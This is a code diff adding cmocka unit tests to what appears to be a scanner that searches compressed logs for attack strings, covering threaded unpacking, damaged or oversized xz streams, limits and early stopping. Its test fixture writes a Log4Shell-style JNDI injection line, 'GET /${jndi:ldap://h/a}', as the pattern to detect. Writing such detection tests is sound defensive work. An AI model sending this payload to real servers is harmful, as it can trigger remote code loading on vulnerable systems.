@@ -157,9 +157,21 @@ static void on_incomplete(void *ctx, struct slice label, const struct err *why)
     (void)snprintf(s->reason, sizeof s->reason, "%s", why->msg);
 }
 
-/* As a file, or as it comes from a pipe. limits may be NULL. */
-static struct seen search(struct slice bytes, bool regular, const struct text_limits *limits)
+static bool take_thread(void *ctx)
 {
+    ++*(unsigned *)ctx;
+    return true;
+}
+
+static void give_thread(void *ctx)
+{
+    --*(unsigned *)ctx;
+}
+
+static struct seen search_once(struct slice bytes, bool regular, const struct text_limits *limits,
+                               bool ahead)
+{
+    unsigned lent = 0;
     struct prefilter filter;
     struct text_search t;
     struct seen s = {.search = &t};
@@ -175,11 +187,29 @@ static struct seen search(struct slice bytes, bool regular, const struct text_li
     t.lines.hit = on_hit;
     t.lines.ctx = &s;
     t.on = (struct text_events){&s, on_begin, on_end, NULL, on_incomplete};
+    if (ahead)
+        t.lender = (struct ahead_lender){&lent, take_thread, give_thread, 0};
     (void)buf_add_str(&t.label, "f");
     assert_ok(text_search_file(&t, fd, regular, bytes.n, &e));
+    assert_int_equal(lent, 0);
     text_search_done(&t);
     (void)close(fd);
     return s;
+}
+
+/* As a file, or as it comes from a pipe; unpacked by the same thread and by another, which must
+ * change nothing. limits may be NULL. */
+static struct seen search(struct slice bytes, bool regular, const struct text_limits *limits)
+{
+    struct seen a = search_once(bytes, regular, limits, false);
+    struct seen b = search_once(bytes, regular, limits, true);
+    assert_int_equal(a.hits, b.hits);
+    assert_int_equal(a.incompletes, b.incompletes);
+    assert_int_equal(a.texts, b.texts);
+    assert_int_equal(a.line, b.line);
+    assert_string_equal(a.label, b.label);
+    assert_string_equal(a.reason, b.reason);
+    return a;
 }
 
 static void assert_found(struct slice bytes, const char *inner, const char *a, const char *b)
@@ -257,6 +287,134 @@ static void cut_at_every_byte(void **state)
     }
     buf_done(&once);
     buf_done(&twice);
+}
+
+/* --- long ones */
+
+/* Several blocks of text that hardly packs, with a hit in its first line and one in its last. */
+static void make_long(struct buf *out)
+{
+    uint32_t x = 1;
+    (void)buf_add_str(out, "GET /${jndi:ldap://h/a}\n");
+    while (out->n < MIB(1) + KIB(256)) {
+        x = x * 1664525 + 1013904223;
+        (void)buf_addf(out, "%08x%c", (unsigned)x, x >> 28 ? ' ' : '\n');
+    }
+    (void)buf_add_str(out, "\nGET /${jndi:ldap://h/a}\n");
+}
+
+/* What is wrong far in a packed log is told once, by its place, behind what was found before. */
+static void damaged_far_in(void **state)
+{
+    (void)state;
+    struct buf text, packed;
+    buf_init(&text, MIB(4));
+    buf_init(&packed, MIB(8));
+    make_long(&text);
+    for (size_t i = 0; i < 4; i++) { /* the codecs */
+        buf_clear(&packed);
+        packers[i].pack(buf_slice(&text), &packed);
+        size_t n = packed.n;
+        struct seen s = search(buf_slice(&packed), true, NULL);
+        assert_int_equal(s.hits, 2);
+        assert_int_equal(s.incompletes, 0);
+        static const size_t tenths[] = {3, 5, 9};
+        for (size_t k = 0; k < ARRAY_LEN(tenths); k++) {
+            s = search(slice_sub(buf_slice(&packed), 0, n / 10 * tenths[k]), true, NULL);
+            assert_int_equal(s.hits, 1);
+            assert_int_equal(s.incompletes, 1);
+            assert_non_null(strstr(s.reason, "at byte"));
+            packed.p[n / 10 * tenths[k]] ^= 0x55;
+            s = search(buf_slice(&packed), false, NULL);
+            packed.p[n / 10 * tenths[k]] ^= 0x55;
+            if (s.incompletes != 1 || s.hits < 1)
+                fail_msg("%s damaged: %zu, %zu, %s", packers[i].name, s.hits, s.incompletes,
+                         s.reason);
+        }
+        (void)buf_add_str(&packed, "something else");
+        s = search(buf_slice(&packed), true, NULL);
+        assert_int_equal(s.hits, 2);
+        assert_int_equal(s.incompletes, 1);
+        assert_non_null(strstr(s.reason, "stands behind it"));
+        struct text_limits l = {MIB(1), LIMIT_HUNT_SPOOL, LIMIT_HUNT_CODECS};
+        s = search(slice_sub(buf_slice(&packed), 0, n), true, &l);
+        assert_int_equal(s.hits, 1);
+        assert_int_equal(s.incompletes, 1);
+        assert_non_null(strstr(s.reason, "unpacked"));
+    }
+    buf_done(&text);
+    buf_done(&packed);
+}
+
+/* A second stream, in which the dictionary is larger than what is given. */
+static void second_stream_asks_too_much(void **state)
+{
+    (void)state;
+    struct buf text, packed;
+    uint8_t *to = NULL;
+    size_t n = 0;
+    buf_init(&text, MIB(4));
+    buf_init(&packed, MIB(8));
+    make_long(&text);
+    pack_xz(buf_slice(&text), &packed);
+    assert_ok(buf_reserve(&packed, MIB(4), &to));
+    assert_int_equal(
+        lzma_easy_buffer_encode(9, LZMA_CHECK_CRC64, NULL, text.p, text.n, to, &n, MIB(4)),
+        LZMA_OK);
+    buf_commit(&packed, n);
+    struct seen s = search(buf_slice(&packed), true, NULL);
+    assert_int_equal(s.hits, 2);
+    assert_int_equal(s.incompletes, 1);
+    assert_non_null(strstr(s.reason, "asks for"));
+    buf_done(&text);
+    buf_done(&packed);
+}
+
+/* The caller ends the search, by a status or by the flag: no thread stays. */
+static volatile int stop;
+
+static enum status stop_at_hit(void *ctx, const struct line_hit *h)
+{
+    (void)h;
+    stop = 1;
+    return *(const bool *)ctx ? ST_END : OK;
+}
+
+static void stopped_early(void **state)
+{
+    (void)state;
+    struct buf text, packed;
+    buf_init(&text, MIB(4));
+    buf_init(&packed, MIB(8));
+    make_long(&text);
+    pack_gzip(buf_slice(&text), &packed);
+    int fd = tempfile_open();
+    assert_int_equal(write(fd, packed.p, packed.n), (ssize_t)packed.n);
+    for (int by_status = 0; by_status < 2; by_status++) {
+        struct prefilter filter;
+        struct text_search t;
+        struct seen seen = {.search = &t};
+        struct err e = {0};
+        bool ends = by_status;
+        unsigned lent = 0;
+        stop = 0;
+        prefilter_init(&filter);
+        assert_ok(text_search_init(&t, &filter));
+        t.lines.hit = stop_at_hit;
+        t.lines.ctx = &ends;
+        t.on = (struct text_events){&seen, on_begin, on_end, NULL, on_incomplete};
+        t.stop = &stop;
+        t.lender = (struct ahead_lender){&lent, take_thread, give_thread, 0};
+        assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
+        assert_int_equal(text_search_file(&t, fd, true, packed.n, &e), ends ? ST_END : OK);
+        assert_int_equal(lent, 0);
+        assert_int_equal(seen.incompletes, 0);
+        assert_in_range(t.bytes, 1, KIB(512)); /* of more than twice as much */
+        text_search_done(&t);
+    }
+    (void)close(fd);
+    buf_done(&text);
+    buf_done(&packed);
 }
 
 /* --- limits */
@@ -475,10 +633,16 @@ static void bytes_behind_wide(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(each_in_each),      cmocka_unit_test(cut_at_every_byte),
-        cmocka_unit_test(limits_are_told),   cmocka_unit_test(depth_is_told),
-        cmocka_unit_test(wide_logs),         cmocka_unit_test(wide_at_its_fewest),
+        cmocka_unit_test(each_in_each),
+        cmocka_unit_test(cut_at_every_byte),
+        cmocka_unit_test(limits_are_told),
+        cmocka_unit_test(depth_is_told),
+        cmocka_unit_test(wide_logs),
+        cmocka_unit_test(wide_at_its_fewest),
         cmocka_unit_test(bytes_behind_wide),
+        cmocka_unit_test(damaged_far_in),
+        cmocka_unit_test(second_stream_asks_too_much),
+        cmocka_unit_test(stopped_early),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
